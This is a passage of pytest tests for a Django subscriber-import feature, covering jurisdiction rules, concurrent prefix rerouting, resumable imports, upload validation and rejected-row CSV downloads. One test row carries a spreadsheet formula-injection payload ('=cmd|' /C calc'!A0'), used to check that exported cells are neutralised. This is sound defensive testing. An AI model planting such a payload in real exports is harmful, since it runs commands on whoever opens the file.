def test_a_resumed_limited_import_reports_the_same_rejections_and_stays_within_the_jurisdiction(
    tmp_path, blitar_officer, monkeypatch
):
    SubscriberFactory(msisdn="+6281200000003", area_id="33.16.01")
    monkeypatch.setattr(services, "IMPORT_CHUNK", 2)
    monkeypatch.setattr(services, "HOME_LOOKUP_ROWS", 3)
    text = (
        "msisdn,kode_wilayah\n"
        "081200000001,35.05.01\n"
        "081200000003,35.05.01\n"  # 3 homed_outside_jurisdiction
        "081200000002,35.05.02\n"
        "081200000004,33.16\n"  # 5 outside_jurisdiction
        "081200000005,35.05.01\n"
        "081200000006\n"  # 7 missing_area
        "081200000007,35.05.02\n"
    )
    monkeypatch.setattr(services._SubscriberWriter, "write", write_failing_on_second_chunk())
    failed = run_import_by(blitar_officer, write(tmp_path, text))
    assert (failed.state, failed.created) == ("failed", 2)

    # Judged by the job's own jurisdiction, whoever resumes it.
    resumed = services.subscriber_import_run(subscriber_import=failed)

    assert (resumed.state, resumed.created, resumed.rejected) == ("completed", 4, 3)
    expected = [(3, "homed_outside_jurisdiction"), (5, "outside_jurisdiction"), (7, "missing_area")]
    assert rejected_rows(resumed) == expected
    with open(resumed.rejected_path, encoding="utf-8-sig") as handle:
        assert [row[0] for row in csv.reader(handle)][1:] == ["3", "5", "7"]
    assert Subscriber.objects.get(msisdn="+6281200000003").area_id == "33.16.01"


def test_imports_uploaded_before_jobs_kept_a_jurisdiction_take_their_uploaders_on_migration(tmp_path, blitar_officer):
    import importlib

    from django.apps import apps

    migration = importlib.import_module("smsblast.migrations.0007_subscriberimport_area_scope")
    path = write(tmp_path, "msisdn\n081234567890\n")
    admin = UserFactory(role=Role.ADMIN, jurisdiction_id="33.16")
    jobs = [
        services.subscriber_import_create_from_path(path=path, user=user)
        for user in (blitar_officer, admin, UserFactory(role=Role.OFFICER), None)
    ]
    SubscriberImport.objects.update(area_scope="")

    migration.fill_area_scope(apps, None)

    assert [job.area_scope for job in SubscriberImport.objects.order_by("pk")] == ["35.05", "", "", ""]
    assert [job.pk for job in SubscriberImport.objects.order_by("pk")] == [job.pk for job in jobs]


def test_imports_uploaded_before_jobs_kept_a_jurisdiction_take_the_scope_a_new_upload_by_their_uploader_gets(
    tmp_path, blitar_officer
):
    import importlib

    from django.apps import apps
    from django.contrib.auth.models import Group

    migration = importlib.import_module("smsblast.migrations.0007_subscriberimport_area_scope")
    path = write(tmp_path, "msisdn\n081234567890\n")
    officer_also_admin = UserFactory(role=Role.OFFICER, jurisdiction_id="33.16")
    officer_also_admin.groups.add(Group.objects.get_or_create(name=Role.ADMIN)[0])
    approver_also_officer = UserFactory(role=Role.APPROVER, jurisdiction_id="35.05")
    approver_also_officer.groups.add(Group.objects.get_or_create(name=Role.OFFICER)[0])
    superuser_officer = UserFactory(role=Role.OFFICER, jurisdiction_id="35.05")
    superuser_officer.is_superuser = True
    superuser_officer.save(update_fields=["is_superuser"])
    operator = UserFactory(role=Role.OPERATOR, jurisdiction_id="35.05")
    uploaders = [officer_also_admin, approver_also_officer, superuser_officer, operator, blitar_officer]
    jobs = [services.subscriber_import_create_from_path(path=path, user=user) for user in uploaders]
    SubscriberImport.objects.update(area_scope="")

    migration.fill_area_scope(apps, None)

    scopes = list(SubscriberImport.objects.order_by("pk").values_list("area_scope", flat=True))
    assert scopes == [job.area_scope for job in jobs] == ["33.16", "35.05", "", "", "35.05"]


def test_an_unlimited_officers_import_may_write_any_region(tmp_path, areas, officer):
    AreaFactory(code="33", name="Jawa Tengah")
    AreaFactory(code="33.16", name="Kabupaten Blora")
    SubscriberFactory(msisdn="+6281200000003", area_id="33.16")
    job = run_import_by(officer, write(tmp_path, "msisdn,kode_wilayah\n081200000001,33.16\n081200000003,35.05\n"))

    assert (job.area_scope, job.created, job.updated, job.rejected) == ("", 1, 1, 0)


# --- routing while the admin edits prefixes ---------------------------------------------------------------------


def move_prefix(prefix: str, *, to: Operator) -> None:
    """What the operator admin does when a prefix moves to another operator: save both and route again."""
    with transaction.atomic():
        for operator in Operator.objects.exclude(pk=to.pk):
            if prefix in operator.prefixes:
                operator.prefixes = [other for other in operator.prefixes if other != prefix]
                operator.save(update_fields=["prefixes"])
        to.prefixes = [*to.prefixes, prefix]
        to.save(update_fields=["prefixes"])
        services.subscribers_reroute(prefixes=[prefix])


# Outside a test transaction, so on PostgreSQL the chunks commit on the import's writer thread.
@pytest.mark.django_db(transaction=True)
def test_a_prefix_moved_between_two_chunks_of_an_import_routes_every_later_number_by_the_new_table(
    tmp_path, areas, operators, monkeypatch
):
    monkeypatch.setattr(services, "IMPORT_CHUNK", 2)
    numbers = ["081200000001", "081300000001", "081300000002", "081300000003", "081300000004"]
    path = write(tmp_path, "\n".join(["msisdn", *numbers]) + "\n")
    moved = []

    def after_each_chunk(message: str) -> None:
        if not moved:
            moved.append(message)
            move_prefix("62813", to=operators["indosat"])

    job = run_import(path, progress=after_each_chunk)

    assert job.state == "completed"
    routed = dict(Subscriber.objects.values_list("msisdn", "operator__slug"))
    assert routed == {
        "+6281200000001": "telkomsel",
        "+6281300000001": "indosat",
        "+6281300000002": "indosat",
        "+6281300000003": "indosat",
        "+6281300000004": "indosat",
    }


@pytest.mark.django_db(transaction=True)
def test_a_prefix_moved_while_an_import_chunk_commits_ends_with_the_new_routing(
    tmp_path, areas, operators, monkeypatch
):
    skip_unless_postgresql()
    path = write(tmp_path, "msisdn\n081300000001\n081300000002\n")
    written, go = threading.Event(), threading.Event()
    write_chunk = services._SubscriberWriter.write

    def write_then_wait(self, rows):
        counts = write_chunk(self, rows)
        written.set()  # the chunk's rows are written, routed by the old table, and not committed yet
        go.wait(30)
        return counts

    monkeypatch.setattr(services._SubscriberWriter, "write", write_then_wait)
    job = services.subscriber_import_create_from_path(path=path, user=None)
    errors = []

    importing = start_in_thread(lambda: services.subscriber_import_run(subscriber_import=job), errors)
    assert written.wait(30)
    moving = start_in_thread(lambda: move_prefix("62813", to=operators["indosat"]), errors)
    wait_until_blocked_on_a_lock(1, unless=moving)
    go.set()
    importing.join(30)
    moving.join(30)

    assert errors == []
    assert SubscriberImport.objects.get(pk=job.pk).state == "completed"
    assert set(Subscriber.objects.values_list("operator__slug", flat=True)) == {"indosat"}


@pytest.mark.django_db(transaction=True)
def test_an_operator_deleted_in_the_admin_while_an_import_chunk_routes_its_rows_waits_for_it(
    tmp_path, areas, operators, monkeypatch, admin_client
):
    skip_unless_postgresql()
    telkomsel = operators["telkomsel"]
    for number in ["+6281300000001", "+6281300000002"]:
        SubscriberFactory(msisdn=number, operator=telkomsel)
    path = write(tmp_path, "msisdn;name\n081300000001;Siti\n081300000002;Budi\n")
    routing, go = threading.Event(), threading.Event()
    table_now = services.selectors.operators_by_prefix

    def table_then_wait():
        table = table_now()
        if threading.current_thread().name.startswith("subscriber-import"):
            routing.set()  # the chunk holds the routing lock and is about to write its rows
            go.wait(30)
        return table

    monkeypatch.setattr(services.selectors, "operators_by_prefix", table_then_wait)
    job = services.subscriber_import_create_from_path(path=path, user=None)
    errors, responses = [], []

    importing = start_in_thread(lambda: services.subscriber_import_run(subscriber_import=job), errors)
    assert routing.wait(30)
    url = reverse("admin:operators_operator_delete", args=[telkomsel.pk])
    deleting = start_in_thread(lambda: responses.append(admin_client.post(url, {"post": "yes"}).status_code), errors)
    wait_until_blocked_on_a_lock(1, unless=deleting)
    go.set()
    importing.join(30)
    deleting.join(30)

    assert (errors, responses) == ([], [302])
    assert SubscriberImport.objects.get(pk=job.pk).state == "completed"
    assert not Operator.objects.filter(pk=telkomsel.pk).exists()
    assert list(Subscriber.objects.values_list("operator_id", flat=True)) == [None, None]


# --- failure and resume -----------------------------------------------------------------------------------------


def write_failing_on_second_chunk():
    """Return a _SubscriberWriter.write that fails its second chunk ("disk full") and writes every other one."""
    original_write = services._SubscriberWriter.write
    calls = []

    def write_chunk(self, rows):
        calls.append(len(rows))
        if len(calls) == 2:
            raise OSError("disk full")
        return original_write(self, rows)

    return write_chunk


# Outside a test transaction, so on PostgreSQL the chunks commit on the import's writer thread.
@pytest.mark.django_db(transaction=True)
def test_a_failed_import_keeps_whole_chunks_and_resumes_after_them(tmp_path, areas, monkeypatch):
    monkeypatch.setattr(services, "IMPORT_CHUNK", 3)
    numbers = [f"08123456{i:04d}" for i in range(8)]
    lines = ["msisdn", *numbers[:4], "bad", numbers[0], *numbers[4:]]  # a rejection and a duplicate mid-file
    path = write(tmp_path, "\n".join(lines) + "\n")
    monkeypatch.setattr(services._SubscriberWriter, "write", write_failing_on_second_chunk())
    job = services.subscriber_import_create_from_path(path=path, user=None)
    failed = services.subscriber_import_run(subscriber_import=job)

    assert failed.state == "failed"
    assert failed.error == services.IMPORT_FAILED_FILE
    assert (failed.created, failed.lines_done) == (3, 4)
    assert Subscriber.objects.count() == 3

    resumed = services.subscriber_import_run(subscriber_import=failed)

    assert resumed.state == "completed"
    assert (resumed.rows_read, resumed.created, resumed.updated) == (10, 8, 0)
    assert (resumed.duplicates, resumed.rejected) == (1, 1)
    assert Subscriber.objects.count() == 8
    actions = list(AuditEvent.objects.filter(object_id=str(job.pk)).values_list("action", flat=True))
    assert actions == [
        "subscriber_import.create",
        "subscriber_import.start",
        "subscriber_import.fail",
        "subscriber_import.start",
        "subscriber_import.complete",
    ]


def test_a_file_of_rows_mostly_rejected_saves_its_progress_as_it_reads_and_resumes_after_it(
    tmp_path, areas, monkeypatch
):
    """Rejected and repeated rows end a chunk too, so the page shows rows read, and the job signs of life, meanwhile."""
    monkeypatch.setattr(services, "IMPORT_CHUNK_ROWS_READ", 3)
    lines = ["msisdn", *(f"bad{i}" for i in range(7)), "081234567890", "0812-3456-7890"]  # 2-8 rejected, 10 repeats 9
    monkeypatch.setattr(services._SubscriberWriter, "write", write_failing_on_second_chunk())
    failed = run_import(write(tmp_path, "\n".join(lines) + "\n"))

    assert (failed.state, failed.rows_read, failed.rejected, failed.lines_done) == ("failed", 3, 3, 4)

    resumed = services.subscriber_import_run(subscriber_import=failed)

    assert (resumed.state, resumed.rows_read, resumed.created, resumed.rejected, resumed.duplicates) == (
        "completed",
        9,
        1,
        7,
        1,
    )
    assert rejected_rows(resumed) == [*((line, "invalid") for line in range(2, 9)), (10, "duplicate")]
    with open(resumed.rejected_path, encoding="utf-8-sig", newline="") as handle:
        assert [row[0] for row in csv.reader(handle)][1:] == [str(line) for line in (*range(2, 9), 10)]


def refuse_audit_of(monkeypatch, action: str) -> None:
    """Make writing the audit event `action` fail, as a database error would; other events are written."""
    record = services.audit_record

    def audit_record(**kwargs):
        if kwargs["action"] == action:
            raise RuntimeError("the audit trail could not be written")
        return record(**kwargs)

    monkeypatch.setattr(services, "audit_record", audit_record)


def test_an_import_whose_start_cannot_be_audited_stays_pending(tmp_path, areas, monkeypatch):
    job = services.subscriber_import_create_from_path(path=write(tmp_path, "msisdn\n081234567890\n"), user=None)
    refuse_audit_of(monkeypatch, "subscriber_import.start")

    with pytest.raises(RuntimeError):
        services.subscriber_import_run(subscriber_import=job)

    job.refresh_from_db()
    assert (job.state, job.started_at) == ("pending", None)


def test_an_import_whose_completion_cannot_be_audited_fails_audited_instead_of_completing_unaudited(
    tmp_path, areas, monkeypatch
):
    refuse_audit_of(monkeypatch, "subscriber_import.complete")

    job = run_import(write(tmp_path, "msisdn\n081234567890\n"))

    assert job.state == "failed"
    events = AuditEvent.objects.filter(object_type="smsblast.subscriberimport", object_id=str(job.pk))
    assert [(e.action, e.from_state, e.to_state) for e in events] == [
        ("subscriber_import.create", "", "pending"),
        ("subscriber_import.start", "pending", "running"),
        ("subscriber_import.fail", "running", "failed"),
    ]


def test_a_completed_import_is_not_run_again(tmp_path, areas):
    job = run_import(write(tmp_path, "msisdn\n081234567890\n"))
    again = services.subscriber_import_run(subscriber_import=job)

    assert (again.state, again.created, again.updated) == ("completed", 1, 0)


# --- upload API -------------------------------------------------------------------------------------------------


def upload(client, content: bytes, name: str = "list.csv"):
    return client.post(
        "/api/v1/subscribers/imports/", {"file": SimpleUploadedFile(name, content, "text/csv")}, format="multipart"
    )


def test_upload_answers_202_and_the_job_reports_counts_and_rejected_rows(
    api_client_for, officer, areas, django_capture_on_commit_callbacks
):
    client = api_client_for(officer)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = upload(client, b"\xef\xbb\xbfno_hp;kode_wilayah\n0812 3456 7890;35.05.01\n12;35.05.01\n")

    assert response.status_code == 202, response.content
    assert response.json()["state"] == "pending"
    assert len(callbacks) == 1  # the worker is asked only once the job is committed
    job_id = response.json()["id"]
    import_task(job_id)

    detail = client.get(f"/api/v1/subscribers/imports/{job_id}/").json()
    assert (detail["state"], detail["progress"], detail["rows_read"], detail["total_rows"]) == ("completed", 100, 2, 2)
    assert (detail["created"], detail["rejected"], detail["rejected_by_reason"]) == (1, 1, {"too_short": 1})
    assert detail["rejected_rows"] == [{"line": 3, "reason": "too_short", "raw": "12;35.05.01"}]
    assert detail["uploaded_by"] == officer.username

    download = client.get(f"/api/v1/subscribers/imports/{job_id}/rejected.csv", HTTP_ACCEPT="text/csv")
    assert download.status_code == 200
    assert download["Content-Type"].startswith("text/csv")
    body = b"".join(download.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # a spreadsheet then reads it as UTF-8
    assert body.decode("utf-8-sig").splitlines() == ["line,reason,raw", "3,too_short,12;35.05.01"]


def test_rejected_file_keeps_a_name_outside_ascii_readable_in_a_spreadsheet(tmp_path, areas):
    job = run_import(write(tmp_path, "nomor,nama\nbad,Nurʼaini Süleyman\n"))

    with open(job.rejected_path, "rb") as handle:
        assert handle.read().startswith(b"\xef\xbb\xbfline,reason,raw")
    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle))[1] == ["2", "invalid", "bad,Nurʼaini Süleyman"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty"),
        (b"\xef\xbb\xbf\r\n", "empty"),
        (b"PK\x03\x04\x14\x00\x06\x00rest-of-a-workbook", "spreadsheet workbook"),
        (b"msisdn\x00\x01\x02", "not a CSV"),
        ("msisdn\n081234567890\nSiti Ã\n".encode("latin-1"), "not UTF-8"),
        # Past the 64 KiB the encoding is judged by, with no character cut by its end.
        (("msisdn,nama\n" + "081234567890,Siti Ã\n" * 5000).encode("latin-1"), "not UTF-8"),
        (b"nama,kode_wilayah\nSiti,35.05\n", "no phone number column"),
        (b"msisdn,nama\n", "no rows"),
        # Rows follow, but the first line alone fills the 64 KiB the header is read from.
        (b"msisdn," + b"x" * (64 * 1024) + b"\n081234567890,a\n", "first line is longer than 64 KiB"),
    ],
    ids=[
        "empty",
        "only-bom",
        "xlsx",
        "binary",
        "latin-1",
        "latin-1-large",
        "no-number-column",
        "header-only",
        "header-too-long",
    ],
)
def test_upload_refuses_a_file_that_cannot_be_imported(api_client_for, officer, media_root, content, message):
    response = upload(api_client_for(officer), content)

    assert response.status_code == 400
    assert message in response.json()["detail"]
    assert SubscriberImport.objects.count() == 0
    assert not any((media_root / "imports").glob("*.csv"))


def test_an_upload_whose_job_the_database_cannot_record_leaves_no_copy_of_the_file_on_the_server(
    api_client_for, officer, media_root, monkeypatch
):
    """Its numbers and names would stay on the disk with no import leading to them, to retry or to delete."""

    def database_down(**kwargs):
        raise OperationalError("the database went away")

    monkeypatch.setattr(services, "audit_record", database_down)

    response = upload(api_client_for(officer), b"msisdn,nama\n081234567890,Siti\n")

    assert response.status_code == 503
    assert SubscriberImport.objects.count() == 0
    assert not any((media_root / "imports").glob("*.csv"))


def test_upload_larger_than_the_limit_is_refused_before_it_is_stored(api_client_for, officer, media_root, settings):
    settings.SUBSCRIBER_IMPORT_MAX_BYTES = 1024
    content = b"msisdn\n" + b"081234567890\n" * 100  # 1,307 bytes

    response = upload(api_client_for(officer), content)

    assert response.status_code == 400
    assert "Split it" in response.json()["detail"]
    assert response.json()["errors"] == {"file": "too_large"}
    assert SubscriberImport.objects.count() == 0
    assert not any((media_root / "imports").glob("*.csv"))
    settings.SUBSCRIBER_IMPORT_MAX_BYTES = 2048
    assert upload(api_client_for(officer), content).status_code == 202


def test_an_upload_the_server_cannot_store_is_refused_with_what_to_do_not_an_error_page(
    api_client_for, client, officer, media_root, settings
):
    media_root.parent.mkdir(parents=True, exist_ok=True)
    media_root.write_text("a file where the uploads' folder should be")  # as a full or unwritable disk would

    response = upload(api_client_for(officer), b"msisdn\n081234567890\n")

    assert response.status_code == 400
    assert response.json() == {
        "detail": "The server could not store the file (its disk may be full or not writable). Try again later; "
        "if it happens again, ask an administrator.",
        "errors": {"file": "not_stored"},
    }
    assert SubscriberImport.objects.count() == 0
    client.force_login(officer)
    page = client.post(
        "/subscribers/",
        {"form": "import", "file": SimpleUploadedFile("list.csv", b"msisdn\n081234567890\n", "text/csv")},
    )
    assert page.status_code == 200
    with translation.override("id"):  # the page's language
        assert escape(translation.gettext(response.json()["detail"])) in page.content.decode()
    assert str(media_root) not in page.content.decode()


def test_upload_without_a_file_field_is_refused(api_client_for, officer):
    response = api_client_for(officer).post("/api/v1/subscribers/imports/", {}, format="multipart")

    assert response.status_code == 400
    assert "file" in response.json()["detail"]


def test_only_officers_and_admins_may_upload(api_client_for, approver, operator_user):
    for user in (approver, operator_user):
        assert upload(api_client_for(user), b"msisdn\n081234567890\n").status_code == 403
    assert SubscriberImport.objects.count() == 0


def test_unknown_import_is_404(api_client_for, officer):
    client = api_client_for(officer)

    assert client.get("/api/v1/subscribers/imports/999/").status_code == 404
    assert client.get("/api/v1/subscribers/imports/999/rejected.csv").status_code == 404


def test_rejected_rows_whose_file_is_gone_are_answered_404_saying_they_are_no_longer_kept(
    api_client_for, officer, areas, tmp_path
):
    job = run_import(write(tmp_path, "msisdn\nbad\n081234567890\n"))
    Path(job.rejected_path).unlink()
    answer = api_client_for(officer).get(f"/api/v1/subscribers/imports/{job.pk}/rejected.csv")
    assert answer.status_code == 404
    assert "no longer kept" in answer.json()["detail"]


def test_rejected_rows_with_semicolons_open_as_columns_in_excel_set_to_indonesian(
    api_client_for, officer, areas, tmp_path
):
    # Excel set to Indonesian splits a CSV at ";" and reads a comma-separated file as one column.
    job = run_import(
        write(
            tmp_path,
            "No;Nama;No. HP\r\n1;Siti, S.Pd;nomor saya\r\n2;Budi;081234567890\r\n3;Ani,=cmd|' /C calc'!A0;12\r\n",
        )
    )
    client = api_client_for(officer)
    url = f"/api/v1/subscribers/imports/{job.pk}/rejected.csv"

    answer = client.get(url, {"sep": "semicolon"})

    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv")
    assert f"import-{job.pk}-rejected.csv" in answer["Content-Disposition"]
    body = b"".join(answer.streaming_content)
    assert body.startswith(b"\xef\xbb\xbfline;reason;raw\r\n")
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")) == [
        ["line", "reason", "raw"],
        ["2", "invalid", "1;Siti, S.Pd;nomor saya"],
        # A comma in a cell is left unquoted here: a spreadsheet splitting at commas would start a cell after it.
        ["4", "too_short", "3;Ani,'=cmd|' /C calc'!A0;12"],
    ]
    comma = b"".join(client.get(url).streaming_content)
    assert comma.startswith(b"\xef\xbb\xbfline,reason,raw\r\n")
    refused = client.get(url, {"sep": "pipe"})
    assert refused.status_code == 400 and "semicolon" in refused.json()["detail"]


def test_rejected_rows_with_semicolons_give_a_row_of_line_breaks_or_of_a_huge_cell_whole(
    api_client_for, officer, areas, tmp_path
):
    huge = "x" * 200_000  # past what a csv reader takes in one cell by default
    job = run_import(
        write(
            tmp_path,
            'nomor,kode_wilayah,nama\r\n0812,35.05.01,"Jl. Merdeka\r\nRT 1 ""A"""\r\n'
            f"081234567890,35.05.01,{huge}\r\n081234567891,99.99,Bu Sri\r\n",
        )
    )
    answer = api_client_for(officer).get(f"/api/v1/subscribers/imports/{job.pk}/rejected.csv", {"sep": "semicolon"})

    assert b"".join(answer.streaming_content).decode() == (
        "\ufeffline;reason;raw\r\n"
        '2;too_short;"0812,35.05.01,Jl. Merdeka\r\nRT 1 ""A"""\r\n'
        f"4;malformed_row;081234567890,35.05.01,{huge}\r\n"
        "5;unknown_area;081234567891,99.99,Bu Sri\r\n"
    )


def test_the_import_page_offers_the_rejected_rows_separated_by_semicolons_for_excel(client, officer, areas, tmp_path):
    job = services.subscriber_import_create_from_path(path=write(tmp_path, "msisdn\nbad\n"), user=officer)
    services.subscriber_import_run(subscriber_import=job)
    client.force_login(officer)

    page = client.get(reverse("subscriber_import", args=[job.pk])).content.decode()

    assert f'href="/api/v1/subscribers/imports/{job.pk}/rejected.csv"' in page
    assert f'href="/api/v1/subscribers/imports/{job.pk}/rejected.csv?sep=semicolon"' in page
    assert "titik koma" in page


def test_rejected_csv_errors_reach_a_browser_as_json_not_the_browsable_api_page(api_client_for, officer):
    answer = api_client_for(officer).get("/api/v1/subscribers/imports/999/rejected.csv", HTTP_ACCEPT="text/html")
    assert answer.status_code == 404
    assert answer["Content-Type"].startswith("application/json")
    assert "999" in answer.json()["detail"]


# --- command ----------------------------------------------------------------------------------------------------


def test_import_subscribers_command_runs_the_same_job_with_progress(tmp_path, areas, capsys):
    path = write(tmp_path, "msisdn,kode_wilayah\n081234567890,35.05.01\n081234567891,77.77\n")
    call_command("import_subscribers", str(path))

    out = capsys.readouterr().out
    assert "2 of ~2 rows: 1 created" in out
    assert "completed: 2 rows, 1 created, 0 updated, 0 duplicates, 1 rejected (unknown_area 1)" in out
    assert SubscriberImport.objects.get().state == "completed"


def test_import_subscribers_command_resumes_a_job_left_running_by_a_dead_worker(tmp_path, areas, capsys, settings):
    job = services.subscriber_import_create_from_path(path=write(tmp_path, "msisdn\n081234567890\n"), user=None)
    SubscriberImport.objects.filter(pk=job.pk).update(
        state=SubscriberImport.State.RUNNING,
        heartbeat_at=timezone.now() - timedelta(seconds=settings.SUBSCRIBER_IMPORT_STALE_SECONDS + 1),
    )

    call_command("import_subscribers", "--resume", str(job.pk))

    job.refresh_from_db()
    assert (job.state, job.created) == ("completed", 1)
    assert AuditEvent.objects.filter(object_id=str(job.pk), action="subscriber_import.interrupt").count() == 1


@pytest.mark.parametrize("state", ["running", "pending"])
def test_import_subscribers_command_refuses_to_resume_an_import_still_making_progress(tmp_path, areas, settings, state):
    from django.core.management.base import CommandError

    job = services.subscriber_import_create_from_path(path=write(tmp_path, "msisdn\n081234567890\n"), user=None)
    SubscriberImport.objects.filter(pk=job.pk).update(state=state, heartbeat_at=timezone.now() - timedelta(seconds=40))

    message = (
        rf"^Import #{job.pk} is still {state}: it last made progress 4\d seconds ago, and an import counts as "
        rf"stopped only after {settings.SUBSCRIBER_IMPORT_STALE_SECONDS} seconds without progress\. "
    )
    with pytest.raises(CommandError, match=message) as refused:
        call_command("import_subscribers", "--resume", str(job.pk), stdout=io.StringIO())
    assert f"--resume {job.pk} --force" in str(refused.value)
    job.refresh_from_db()
    assert (job.state, job.created) == (state, 0)
    assert not Subscriber.objects.exists()
    assert not AuditEvent.objects.filter(object_id=str(job.pk), action="subscriber_import.interrupt").exists()


def test_import_subscribers_command_takes_over_an_import_still_making_progress_when_forced(tmp_path, areas):
    job = services.subscriber_import_create_from_path(path=write(tmp_path, "msisdn\n081234567890\n"), user=None)
    SubscriberImport.objects.filter(pk=job.pk).update(state=SubscriberImport.State.RUNNING)

    call_command("import_subscribers", "--resume", str(job.pk), "--force", stdout=io.StringIO())

    job.refresh_from_db()
    assert (job.state, job.created) == ("completed", 1)
    assert AuditEvent.objects.filter(object_id=str(job.pk), action="subscriber_import.interrupt").count() == 1


def test_import_subscribers_command_refuses_force_without_resume(tmp_path, areas):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="--force goes with --resume ID"):
        call_command("import_subscribers", str(write(tmp_path, "msisdn\n081234567890\n")), "--force")
    assert not SubscriberImport.objects.exists()


class InterruptedOnProgress(io.StringIO):
    """Command output where Ctrl-C arrives as the first chunk's progress line is shown."""

    def write(self, text):
        if " rows: " in text:
            raise KeyboardInterrupt
        return super().write(text)


def test_import_subscribers_command_stopped_by_ctrl_c_leaves_a_stopped_job_to_resume_not_a_running_one(
    tmp_path, areas, monkeypatch
):
    from django.core.management.base import CommandError

    monkeypatch.setattr(services, "IMPORT_CHUNK", 2)
    path = write(tmp_path, "msisdn\n" + "\n".join(f"08123456{i:04d}" for i in range(5)) + "\n")

    with pytest.raises(CommandError, match=r"^Import #(\d+) stopped after 2 rows; rerun with --resume \1\.$"):
        call_command("import_subscribers", str(path), stdout=InterruptedOnProgress())
    job = SubscriberImport.objects.get()
    # Pressed by the person at the terminal: stopped, as from its page, with no error to read as a failure.
    assert (job.state, job.error, job.created, job.lines_done) == ("stopped", "", 2, 3)
    assert AuditEvent.objects.filter(action="subscriber_import.stop", object_id=str(job.pk), actor=None).exists()

    call_command("import_subscribers", "--resume", str(job.pk), stdout=io.StringIO())
    job.refresh_from_db()
    assert (job.state, job.created) == ("completed", 5)


def test_import_subscribers_command_refuses_a_file_and_resume_together(tmp_path, areas):
    from django.core.management.base import CommandError

    job = services.subscriber_import_create_from_path(path=write(tmp_path, "msisdn\n081234567890\n"), user=None)
    other = write(tmp_path, "msisdn\n081234567891\n", name="other.csv")

    with pytest.raises(CommandError, match="either a CSV file or --resume ID, not both"):
        call_command("import_subscribers", str(other), "--resume", str(job.pk))
    assert not Subscriber.objects.exists()


def test_import_subscribers_command_resuming_a_job_whose_file_is_gone_says_so_and_changes_nothing(tmp_path, areas):
    from django.core.management.base import CommandError

    job = services.subscriber_import_create_from_path(path=write(tmp_path, "msisdn\n081234567890\n"), user=None)
    SubscriberImport.objects.filter(pk=job.pk).update(state=SubscriberImport.State.RUNNING)
    Path(job.file_path).unlink()

    with pytest.raises(CommandError, match=f"The file of import #{job.pk} is no longer kept"):
        call_command("import_subscribers", "--resume", str(job.pk))
    job.refresh_from_db()
    assert job.state == "running"


def test_import_subscribers_command_refuses_a_file_without_numbers(tmp_path, db):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="no phone number column"):
        call_command("import_subscribers", str(write(tmp_path, "nama\nSiti\n")))


# --- admin ------------------------------------------------------------------------------------------------------


def test_admin_subscriber_list_links_to_an_upload_page_that_starts_an_import(client, admin_user):
    client.force_login(admin_user)

    assert "/admin/smsblast/subscriber/import/" in client.get("/admin/smsblast/subscriber/").content.decode()
    response = client.post(
        "/admin/smsblast/subscriber/import/", {"file": SimpleUploadedFile("list.csv", b"hp\n081234567890\n")}
    )

    job = SubscriberImport.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/admin/smsblast/subscriberimport/{job.pk}/change/"
    assert (job.state, job.uploaded_by, job.original_name) == ("pending", admin_user, "list.csv")


def test_admin_upload_page_shows_why_a_file_is_refused(client, admin_user):
    client.force_login(admin_user)
    response = client.post("/admin/smsblast/subscriber/import/", {"file": SimpleUploadedFile("x.csv", b"nama\nSiti\n")})

    assert response.status_code == 200
    assert "tidak punya kolom nomor telepon" in response.content.decode()
    assert not SubscriberImport.objects.exists()


def _failed_import(tmp_path, monkeypatch) -> SubscriberImport:
    """An import that failed on its second chunk of three rows: the first chunk is saved."""
    monkeypatch.setattr(services, "IMPORT_CHUNK", 3)
    path = write(tmp_path, "msisdn\n" + "\n".join(f"08123456{i:04d}" for i in range(7)) + "\n")
    with monkeypatch.context() as patch:
        patch.setattr(services._SubscriberWriter, "write", write_failing_on_second_chunk())
        job = run_import(path)
    assert job.state == "failed"
    return job


def test_a_failed_import_is_resumed_through_the_api_and_completes_after_its_saved_chunk(
    tmp_path, areas, monkeypatch, api_client_for, officer, django_capture_on_commit_callbacks
):
    job = _failed_import(tmp_path, monkeypatch)
    with django_capture_on_commit_callbacks(execute=False) as queued:
        response = api_client_for(officer).post(f"/api/v1/subscribers/imports/{job.pk}/resume/")
    assert response.status_code == 202, response.content
    assert response.json()["state"] == "pending"
    assert len(queued) == 1  # the worker is asked to take it up again
    job.refresh_from_db()
    assert (job.state, job.error) == ("pending", "")
    event = AuditEvent.objects.filter(action="subscriber_import.resume").get()
    assert (event.from_state, event.to_state, event.actor_id) == ("failed", "pending", officer.pk)

    import_task(job.pk)
    job.refresh_from_db()
    assert (job.state, job.rows_read, job.created) == ("completed", 7, 7)
    assert Subscriber.objects.count() == 7


def test_only_a_failed_import_can_be_resumed_and_only_by_an_officer(
    tmp_path, areas, monkeypatch, api_client_for, officer, approver
):
    job = _failed_import(tmp_path, monkeypatch)
    assert api_client_for(approver).post(f"/api/v1/subscribers/imports/{job.pk}/resume/").status_code == 403
    assert api_client_for(officer).post("/api/v1/subscribers/imports/999999/resume/").status_code == 404
    services.subscriber_import_run(subscriber_import=job)  # a rerun (import_subscribers --resume) completes it
    response = api_client_for(officer).post(f"/api/v1/subscribers/imports/{job.pk}/resume/")
    assert response.status_code == 409
    assert "Only a failed import" in response.json()["detail"]


def _import_left_running_by_a_dead_worker(tmp_path, monkeypatch) -> SubscriberImport:
    """An import whose worker was killed after its first chunk of three rows: still `running`, the chunk saved."""
    job = _failed_import(tmp_path, monkeypatch)
    SubscriberImport.objects.filter(pk=job.pk).update(state=SubscriberImport.State.RUNNING, error="")
    job.refresh_from_db()
    return job


def test_an_import_whose_worker_died_is_resumed_through_the_api_once_it_shows_no_sign_of_life(
    tmp_path, areas, monkeypatch, api_client_for, officer, settings
):
    job = _import_left_running_by_a_dead_worker(tmp_path, monkeypatch)
    client = api_client_for(officer)

    response = client.post(f"/api/v1/subscribers/imports/{job.pk}/resume/")
    assert response.status_code == 409  # it may still be running
    assert "no sign of life" in response.json()["detail"]

    SubscriberImport.objects.filter(pk=job.pk).update(
        heartbeat_at=timezone.now() - timedelta(seconds=settings.SUBSCRIBER_IMPORT_STALE_SECONDS + 1)
    )
